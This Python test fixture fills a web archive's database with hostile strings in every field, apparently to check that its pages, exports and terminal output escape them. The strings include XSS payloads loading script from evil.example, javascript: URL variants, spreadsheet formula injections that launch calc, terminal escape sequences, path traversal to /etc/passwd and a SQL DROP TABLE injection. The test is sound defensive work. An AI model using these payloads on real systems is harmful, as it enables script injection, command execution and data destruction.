"""An archive in which every text is an attack: what no page, no export and no terminal may let through."""

import sqlite3
from contextlib import closing
from pathlib import Path
from typing import Final

from archive.changes.learned_cuts import LearnedLine, Place
from archive.crawl.frontier import Lease
from archive.model.article import Article, Clutter, ClutterKind, Dated, Extraction, Image
from archive.model.capture import Fetch
from archive.model.listing import Found, Listing, ListingKind
from archive.model.outcome import Failure, Outcome
from archive.model.source import Source
from archive.storage.counts import recount
from archive.storage.store import Store
from tests.archive.sample import NOW

# A payload that ran would call alert, set a title that begins with "owned", leave the page or ask another host.
PAYLOADS: Final = (
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>parent.document.title=\"owned\"</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';*{display:none}</style>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript\x00:alert(1)",
    " javascript:alert(1)",
    "javascript://evil.example/%0aalert(1)",
    "&#106;avascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//evil.example/x",
    'https://evil.example/" onmouseover="alert(1)',
    "https://evil.example/' onmouseover='alert(1)",
    "http://evil.example/><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "` onmouseover=alert(1) `",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "{{7*7}}{{config}}{% raw %}{# #}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "\x02</mark><script>alert(1)</script>\x03",
    "\u202egnp.exe\u202d\u202a\u202b\u202c",
    "\u2066\u2067\u2068\u2069\u2069\u2069 gniht",
    "a\u200bb\u200c\u200d\ufeffc\u00ad\u2060",
    "line\u2028separator\u2029paragraph\u0085next",
    "\x1b[2J\x1b[31mred\x1b]0;owned\x07\x1b]8;;https://evil.example/\x1b\\link\x9b31m",
    "carriage\rreturn\r\nand\nfeed\x0b\x0c",
    "W" * 10_000,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f3f4\u200d\u2620\ufe0f",
    "\ufeffbyte order mark",
    '=HYPERLINK("https://evil.example/","click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    ' "=1+1',
    "＝1+1",
    "../../../../etc/passwd",
    "'; DROP TABLE articles; --",
)  # fmt: skip
FEED: Final = "https://evil.example/feed"
ALL_AT_ONCE: Final = " ".join(PAYLOADS)


def build(path: Path) -> Path:
    """File an article a payload, with the payload in every field; one more holds all of them in each."""
    store = Store.open(path)
    run = store.start_run(ALL_AT_ONCE, ALL_AT_ONCE, NOW)
    source = Source(id="evil", url="https://evil.example/", name=ALL_AT_ONCE[:2_000], feeds=(FEED,))
    source_id = store.add_source(source, NOW)
    texts = (*PAYLOADS, ALL_AT_ONCE)
    found = tuple(Found(url=_page(n), title=text, guid=text, language=text[:9]) for n, text in enumerate(texts))
    missing = Found(url="https://evil.example/missing", title=ALL_AT_ONCE)
    listing = Listing(kind=ListingKind.FEED, found=(*found, missing), notes=PAYLOADS, title=ALL_AT_ONCE)
    lease = _lease(store, FEED, ListingKind.FEED)
    store.file_listing(run, lease, _fetch(FEED, ALL_AT_ONCE), listing, (ALL_AT_ONCE, ALL_AT_ONCE), NOW)
    for n, text in enumerate(texts):
        store.file(run, _lease(store, _page(n)), _fetch(_page(n), text), _extraction(n, text), extractor=text)
    failure = Failure(url=missing.url, stage=ALL_AT_ONCE, outcome=Outcome.ERROR, detail=ALL_AT_ONCE)
    store.fail(run, _lease(store, missing.url), _fetch(missing.url, ALL_AT_ONCE), failure, NOW)
    store.keep_learned(source_id, [_learned(text) for text in texts], NOW)
    store.end_run(run, state=PAYLOADS[0], new=len(texts), known=0, outcomes={PAYLOADS[2]: 3}, now=NOW)
    store.close()
    _fill_what_is_made_from_fixed_words(path)
    return path


ARTICLES: Final = len(PAYLOADS) + 1


def _lease(store: Store, url: str, kind: ListingKind | None = None) -> Lease:
    lease_id, source_id, depth = store.conn.execute(
        "SELECT id, source_id, depth FROM frontier WHERE url = ?", (url,)
    ).fetchone()
    return Lease(id=lease_id, source_id=source_id, url=url, kind=kind, depth=depth)


def _page(n: int) -> str:
    return f"https://evil.example/page/{n}"


def _fetch(url: str, text: str) -> Fetch:
    return Fetch(url=url, fetched_at=NOW, status=200, ms=1, bytes=1, digest=text, final_url=text)


def _extraction(n: int, text: str) -> Extraction:
    article = Article(
        url=_page(n),
        canonical_url=f"{text}#{n}",
        title=text,
        standfirst=text,
        authors=(text, f"{n} {text}"),
        published=Dated(when=NOW, source=text),
        modified=Dated(when=NOW, source=text),
        language=text,
        section=text,
        tags=(text, f"{n} {text}"),
        site_name=text,
        paragraphs=(f"Poison {n}.", text, text),
        images=(Image(url=text, caption=text, credit=text, alt=text), Image(url=f"https://evil.example/{text}")),
        sources=((text, text),),
    )
    clutter = tuple(Clutter(kind=kind, text=text, rule=text) for kind in (ClutterKind.WIDGET, ClutterKind.CAPTION))
    return Extraction(article=article, clutter=clutter, notes=(text,))


def _learned(text: str) -> LearnedLine:
    return LearnedLine(key=text, text=text, kind=ClutterKind.PROMO, place=Place.END, pages=3, of=4)


def _fill_what_is_made_from_fixed_words(path: Path) -> None:
    """What the program writes from tables of its own; another program, or a later one, may have written otherwise."""
    with closing(sqlite3.connect(path)) as conn, conn:
        conn.execute("UPDATE articles SET kind = title, access = title, url = 'javascript:' || id || title")
        conn.execute("UPDATE versions SET change = title")
        conn.execute("UPDATE removed SET kind = text")
        conn.execute("UPDATE fetches SET outcome = detail WHERE detail IS NOT NULL")
        conn.execute("UPDATE runs SET events = command")
        conn.execute("INSERT INTO hosts (name, paused_until, reason, noted_at) VALUES (?, ?, ?, ?)", (ALL_AT_ONCE,) * 4)
        conn.execute("INSERT OR IGNORE INTO urls (article_id, url, kind, first_seen_at) "
                     "SELECT id, url, title, first_seen_at FROM articles")  # fmt: skip
        recount(conn)
